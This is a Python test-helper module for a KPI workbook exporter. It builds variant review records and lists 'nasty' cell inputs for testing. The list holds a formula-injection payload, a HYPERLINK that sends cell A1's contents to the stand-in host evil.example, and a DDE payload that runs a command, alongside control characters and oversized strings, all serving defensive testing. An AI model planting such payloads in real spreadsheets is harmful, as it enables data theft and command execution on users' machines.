"""Editions for tests of workbooks."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

from kpiwork.review.record import KpiReview, Record
from tests.factories import flights_record

NASTY = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "http://evil.example/x",
    "<r><t>raw</t></r>",
    "Wow!A1",
    "a & b < c > d \"e\" 'f'",
    "nul\x00 bell\x07 \ud83d \ufffe _x0041_",
    "שלום مرحبا \u202eback",
    "💥" * 50,
    "line\nbreak\r\nand more",
    '&L&P &"Arial"',
    "x" * 40_000,
)


def unjudged() -> Record:
    """Give an edition whose KPIs were not judged for changes."""
    record = flights_record()
    return replace(record, kpis=tuple(replace(kpi, change=None) for kpi in record.kpis))


def with_kpi(record: Record, name: str, **changes: Any) -> Record:
    """Change a KPI of a record."""
    kpis = tuple(replace(kpi, **changes) if kpi.id == name else kpi for kpi in record.kpis)
    return replace(record, kpis=kpis)


def called(record: Record, number: int, **changes: Any) -> Record:
    """Give the record of another department."""
    about = replace(record.department, id=f"department_{number}", name=f"Department {number}")
    return replace(record, department=replace(about, **changes))


def small(kpi: KpiReview, count: int) -> KpiReview:
    """Let a KPI and every point of its history count few records."""
    series = tuple(
        replace(one, points=tuple(replace(point, records=count) for point in one.points))
        for one in kpi.series
    )
    return replace(kpi, records=count, series=series)


def complete() -> Record:
    """Give a complete and private record."""
    return flights_record(edition=None)
